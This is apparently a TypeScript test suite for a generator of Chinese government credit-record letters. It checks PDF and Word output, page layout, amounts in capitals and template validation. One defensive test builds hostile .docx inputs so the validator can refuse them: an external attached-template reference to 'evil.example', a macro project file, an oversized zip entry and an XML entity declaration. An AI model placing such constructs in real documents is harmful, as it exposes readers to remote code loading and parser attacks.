import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { Document, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx';
import { TemplateHandler } from 'easy-template-x';
import { extractText, getDocumentProxy } from 'unpdf';
import { fieldsOf, letterKinds, type LetterKey, type LetterRule, type LetterValues } from '../core/letter.ts';
import type { Rule } from '../core/rules.ts';
import { readRules } from '../rulebook/city-files.ts';
import { textsOf, writeLetter } from './issue.ts';
import { moneyText, moneyWords } from './money.ts';
import { openFace } from '../paper/face.ts';
import { linesOf } from '../paper/lines.ts';
import { openParts } from '../paper/parts.ts';
import { printDocx } from '../paper/pdf.ts';
import { type Para, readSheet } from '../paper/sheet.ts';
import { tagsOf, templateErrors } from './template.ts';

const rules = readRules('example').filter((r) => r.kind === 'letter');
const ruleOf = (kind: LetterKey): Rule<'letter'> => ({ ...rules.find((r) => r.key === kind)!, version: 1 }) as Rule<'letter'>;

const finding = { finding: '民商事判决未履行', documentNumber: '（2026）衡0121民初318号', decidedBy: '江北县人民法院', recordNo: 'SX-2026-000001' };
const samples: { readonly [K in LetterKey]: LetterValues } = {
  notice: { ...finding, facts: '应向施工企业支付安置房工程款128.64万元，余款到期未付。', amount: '128640000', defenceUntil: '2026-11-30' },
  rectification: { ...finding, demands: ['一、付清余款；', '二、完善付款制度。'], explainUntil: '2026-12-01', finishUntil: '2027-01-15' },
  urging: { ...finding, light: '橙', matter: '安置房工程款支付', dueOn: '2026-10-31', demands: '限期付清。', answerUntil: '2026-12-07' },
  criticism: { ...finding, facts: '判决生效后六个月仍未履行。', reason: '有履行能力而拖延履行' },
  repairNotice: { ...finding, severity: '一般', earliestOn: '2027-01-12', until: '2027-10-12' },
  repairGranted: { ...finding, appliedOn: '2027-02-01', reason: '已经付清全部款项，最短公示期已满。' },
  repairRefused: { ...finding, appliedOn: '2027-02-01', reason: '尚有余款未付。', remedyUntil: '2027-03-01' },
  objectionReply: { ...finding, objectedOn: '2026-12-03', outcome: '异议不成立，维持原记录', reason: '经向法院核实，判决已经生效。', roads: '对本答复不服的，可以自收到之日起15个工作日内提出申诉。\n以上法定途径的期限不因此延长。', remedyUntil: '2027-01-03' },
  eligibilityAnswer: {
    asked: '名单“候选.xlsx”所列2个单位', purpose: '荣誉评选', asOf: '2026-11-23', outcome: ['共核查2个单位：符合1，不符合1，需人工核实0。', '逐个结论见附件。'], rules: ['“荣誉评选”核查规则第1版。', '计入：一般、严重失信。'], digest: '0123abcd 4567ef89',
    annexTitle: '核查结果表', annex: [{ line: '2', name: '江衡市财政局', about: '11990100991001011W', answer: '符合', why: '没有应计入的失信记录' }, { line: '3', name: '江北县住房和城乡建设局', about: '', answer: '不符合', why: '有应计入的失信记录' }],
  },
};
const marks = { code: '7KQM-2XPA-R9TF-HW3E', address: 'https://portal.example/v/7KQM-2XPA-R9TF-HW3E', issuedOn: '2026-11-23' };
const written = async (kind: LetterKey, values: LetterValues) => {
  const rule = ruleOf(kind);
  return writeLetter({ rule, issuer: '江衡市发展和改革委员会', to: '江北县住房和城乡建设局', subjectId: null, recordNo: '', texts: textsOf(kind, values) }, { ...marks, no: `${rule.body.series}〔2026〕7号` });
};
const pdfText = async (pdf: Buffer): Promise<string> => (await extractText(await getDocumentProxy(new Uint8Array(pdf)), { mergePages: true })).text.replace(/\s/g, '');

describe('the letters of the example city', () => {
  for (const kind of Object.keys(letterKinds) as LetterKey[]) {
    test(`${letterKinds[kind].zh}: Word and PDF say, word for word, what stands in its golden text`, async () => {
      const { docx, pdf, missing } = await written(kind, samples[kind]);
      const golden = readFileSync(join(import.meta.dirname, 'golden', `${kind}.txt`), 'utf8').replace(/\s/g, '');
      assert.equal((await pdfText(pdf)).replace(/—\d—/g, ''), golden);
      const words = (await new TemplateHandler().getText(docx)).replace(/\s/g, '');
      assert.ok(words.includes(golden.slice(golden.indexOf('〕7号') + 3)) || golden.endsWith(words.slice(-40)), 'the Word document says the same');
      assert.deepEqual(missing, []);
      assert.ok(!words.includes('{') && !golden.includes('undefined'));
    });
  }

  test('what is optional and unknown leaves no trace, not even an empty line', async () => {
    const { docx } = await written('notice', { finding: '民商事判决未履行', recordNo: 'SX-2026-000001', defenceUntil: '2026-11-30' });
    const { blocks } = await readSheet(docx);
    const texts = blocks.map((b) => (b.is === 'para' ? b.pieces.map((p) => (p.is === 'text' ? p.text : '')).join('') : '表'));
    assert.ok(!texts.some((text) => /涉及金额|主要事实|依据文书/.test(text)));
    const from = texts.findIndex((text) => text.startsWith('本机关收到'));
    assert.ok(texts[from + 1]?.startsWith('你单位（本人）对上述内容'), texts.join('\n'));
  });

  test('an urging without a light threatens with none, and makes up no day', async () => {
    const text = await pdfText((await written('urging', { ...finding, matter: '安置房工程款支付', demands: '说明付款来源。', answerUntil: '2026-12-07' })).pdf);
    assert.ok(text.includes('你单位的安置房工程款支付至今没有办结。') && text.includes('现予以督办，要求如下：'), text);
    assert.ok(!/蓝色|橙|红色|原定于/.test(text), text);
  });

  test('the repair notice about what is not shown speaks of keeping, never of publicity', async () => {
    const text = await pdfText((await written('repairNotice', { ...finding, severity: '一般', earliestOn: '2027-01-12', keptUntil: '2031-10-12' })).pdf);
    for (const part of ['已经记录，决定不向社会公开。', '保存至2031年10月12日止；期满自动终止，不需要申请。', '起可以申请提前终止该记录。']) assert.ok(text.includes(part), part);
    assert.ok(!/公示至|提前停止公示|决定公示/.test(text), text);
  });
});

describe('a table with a row for each name', () => {
  const list = (n: number): LetterValues => ({ ...samples.eligibilityAnswer, annex: Array.from({ length: n }, (_, at) => ({ line: String(at + 2), name: `江北县第${at}局`, about: '', answer: '符合', why: '没有应计入的失信记录' })) });

  test('runs on over pages, with its head on each and every row once, and is a table to whoever hears it read', async () => {
    const { pdf } = await written('eligibilityAnswer', list(100));
    const text = await pdfText(pdf);
    const pages = [...text.matchAll(/—(\d)—/g)].length;
    assert.ok(pages >= 3, `${pages} pages`);
    assert.equal(text.split('行号名称代码或单位结论说明').length - 1, pages - 1, 'all pages but the first two have the head');
    for (let at = 0; at < 100; at++) assert.equal(text.split(`江北县第${at}局`).length - 1, 1, `row ${at}`);
    const raw = pdf.toString('latin1');
    assert.deepEqual([raw.split('/S /Table').length - 1, raw.split('/S /TR').length - 1, raw.split('/S /TH').length - 1], [1, 101, 5]);
  });

  test('is not there at all when there is none: no page, no heading, no empty table', async () => {
    const { annexTitle, annex, ...one } = samples.eligibilityAnswer;
    const { pdf, docx } = await written('eligibilityAnswer', one);
    assert.ok(annexTitle !== undefined && annex !== undefined);
    const text = await pdfText(pdf);
    assert.ok(!text.includes('附件：') && !text.includes('核查结果表') && !text.includes('行号') && !text.includes('—3—'), text);
    assert.equal((await readSheet(docx)).blocks.filter((b) => b.is === 'table').length, 1, 'only the block by which it is checked');
  });
});

describe('a page', () => {
  test('holds lines of 28 characters, and no line begins with a closing mark', async () => {
    const { docx } = await written('notice', samples.notice);
    const sheet = await readSheet(docx);
    const long = '甲乙丙丁戊己庚辛壬癸'.repeat(20);
    const face = await openFace(400, `${long}，。（`);
    const faces = { regular: face, bold: face };
    const para = { ...(sheet.blocks.find((b) => b.is === 'para' && b.align === 'both') as Para) };
    const width = sheet.width - sheet.margin.left - sheet.margin.right;
    const set = (text: string) => linesOf(faces, { ...para, pieces: [{ is: 'text', text, size: 16, bold: false, color: '#000000' }] }, width, sheet.charSpace, 1).map((l) => l.units.map((u) => u.text).join(''));
    assert.deepEqual(set(long).slice(0, 3).map((l) => l.length), [26, 28, 28], 'the first line is two characters in');
    const marked = set(`${long.slice(0, 26)}，${long.slice(0, 27)}（乙）${long}`);
    assert.deepEqual([marked[0]!.at(-1), /^[，。）]/.test(marked.join('\n').replace(/.*\n/, ''))], ['，', false]);
    const doubled = set(`${long.slice(0, 26)}）、${long.slice(0, 27)}》）、${long}`);
    assert.ok(doubled.every((line) => !/^[、，。）》]/.test(line)), doubled.join('\n'));
    assert.equal(doubled.join(''), `${long.slice(0, 26)}）、${long.slice(0, 27)}》）、${long}`, 'and nothing is lost');
    assert.ok(marked.every((line) => !line.endsWith('（') && !/^[，。）]/.test(line)), marked.join('\n'));
    assert.equal(Math.round((sheet.height - sheet.margin.top - sheet.margin.bottom) / 29), 22, 'and 22 lines');
  });

  test('a character that the font lacks is boxed with its code point and named, never dropped', async () => {
    const { pdf, missing } = await written('criticism', { ...samples.criticism, reason: '由𠮷某与䶮某经办' });
    assert.deepEqual(missing, ['𠮷', '䶮']);
    const text = await pdfText(pdf);
    assert.ok(text.includes('U+20BB7') && text.includes('U+4DAE') && text.includes('某与'), text);
  });

  test('what a clerk changed in Word shows: another size, a table, a page of its own', async () => {
    const cell = (text: string) => new TableCell({ children: [new Paragraph(text)] });
    const docx = await Packer.toBuffer(new Document({ sections: [{ children: [
      new Paragraph({ children: [new TextRun({ text: '大字', size: 72, bold: true })] }), new Table({ rows: [new TableRow({ children: [cell('表头甲'), cell('表头乙')] }), new TableRow({ children: [cell('一'), cell('二')] })] }),
      new Paragraph({ pageBreakBefore: true, text: '另起一页' }),
    ] }] }));
    const { pdf, pages } = await printDocx(docx, { title: '样', author: '', on: '2026-11-23' });
    assert.equal(pages, 2);
    for (const part of ['大字', '表头甲', '表头乙', '另起一页']) assert.ok((await pdfText(pdf)).includes(part), part);
    const { blocks } = await readSheet(docx);
    assert.deepEqual(blocks.map((b) => (b.is === 'para' ? b.pieces.map((p) => (p.is === 'text' ? [p.size, p.bold] : [])) : [b.ruled, b.rows.length])), [[[36, true]], [true, 2], [[10.5, false]]]);
  });
});

describe('an edited template', () => {
  const base64 = (docx: Buffer): string => docx.toString('base64');
  const own = (text: string): Promise<Buffer> => Packer.toBuffer(new Document({ sections: [{ children: text.split('\n').map((line) => new Paragraph(line)) }] }));
  const whole = (kind: LetterKey): string => tagsOf(kind).must.map((name) => `{${name}}`).join('\n');
  const said = async (kind: string, docx: Buffer): Promise<string> => (await templateErrors(kind, base64(docx))).map((e) => e.zh).join('；');

  test('is taken when it has all that it must, in whatever order, and prints', async () => {
    for (const rule of rules) assert.equal(await said(rule.key, Buffer.from((rule.body as LetterRule).template, 'base64')), '', rule.key);
    assert.equal(await said('notice', await own(`${whole('notice')}\n{#涉及金额}金额 {涉及金额}{/涉及金额}`)), '');
  });

  test('is refused with a reason that says what to do', async () => {
    assert.match(await said('notice', Buffer.from('not a word file')), /文件打不开.*另存为/);
    assert.match(await said('notice', Buffer.alloc(201 * 1024)), /超过 200 kB/);
    assert.match(await said('nosuch', Buffer.alloc(3)), /没有“nosuch”这一种文书/);
    assert.match(await said('notice', await own(`${whole('notice')}\n{联系电话}`)), /不认识的标签：\{联系电话\}；.*可以使用的标签是：\{发文机关\}/);
    assert.match(await said('notice', await own(whole('notice').replace('{验证码}', '').replace('{申辩截止日}', ''))), /缺少必须的标签：\{验证码\}、\{申辩截止日\}，请补上/);
    assert.match(await said('notice', await own(`${whole('notice')}\n{#涉及金额}没有写完`)), /没有写完整的标签|试排失败/);
  });

  test('is refused when it reaches for something outside itself, or is a bomb', async () => {
    const parts = (await openParts(Buffer.from((rules[0]!.body as LetterRule).template, 'base64')))!;
    const { default: JSZip } = (await import('jszip')) as unknown as { default: new () => { file(name: string, data: Buffer | string): void; generateAsync(o: object): Promise<Buffer> } };
    const zipped = async (more: Readonly<Record<string, Buffer | string>>): Promise<Buffer> => {
      const zip = new JSZip();
      for (const [name, bytes] of parts) zip.file(name, bytes);
      for (const [name, bytes] of Object.entries(more)) zip.file(name, bytes);
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    };
    const rels = parts.get('word/_rels/document.xml.rels')!.toString();
    assert.equal(await said('notice', await zipped({})), '');
    assert.match(await said('notice', await zipped({ 'word/_rels/document.xml.rels': rels.replace('</Relationships>', '<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>') })), /宏、嵌入对象或引用外部文件/);
    assert.match(await said('notice', await zipped({ 'word/vbaProject.bin': 'x' })), /宏/);
    assert.match(await said('notice', await zipped({ 'word/media/x.bin': Buffer.alloc(9 * 2 ** 20) })), /文件打不开/);
    assert.notEqual(await said('notice', await zipped({ 'word/styles.xml': `<!DOCTYPE x [<!ENTITY a "b">]>${parts.get('word/styles.xml')!.toString()}` })), '');
  });
});

test('an amount is written in capitals as the law of bills has it', () => {
  for (const [fen, said] of [['100000000', '壹佰万元整'], ['0', '零元整'], ['5', '伍分'], ['50', '伍角整'], ['105', '壹元零伍分'], ['1000', '壹拾元整'], ['128640000', '壹佰贰拾捌万陆仟肆佰元整'], ['10000500', '壹拾万零伍元整'],
    ['100010000', '壹佰万零壹佰元整'], ['100000001000', '壹拾亿零壹拾元整'], ['120300450067', '壹拾贰亿零叁佰万肆仟伍佰元陆角柒分'], ['1000000000000', '壹佰亿元整'], ['100100010001', '壹拾亿零壹佰万零壹佰元零壹分']] as const) assert.equal(moneyWords(fen), said, fen);
  assert.equal(moneyText('128640000'), '1286400.00元（壹佰贰拾捌万陆仟肆佰元整）');
  for (const wrong of ['', '-1', '1.5', 'x']) assert.throws(() => moneyWords(wrong), RangeError);
});

test('every field of every kind can be told apart, and no tag means two things', () => {
  for (const kind of Object.keys(letterKinds) as LetterKey[]) {
    const { known } = tagsOf(kind);
    assert.equal(new Set(known).size, known.length, kind);
    assert.ok(Object.keys(samples[kind]).every((key) => Object.hasOwn(fieldsOf(kind), key)), kind);
  }
});
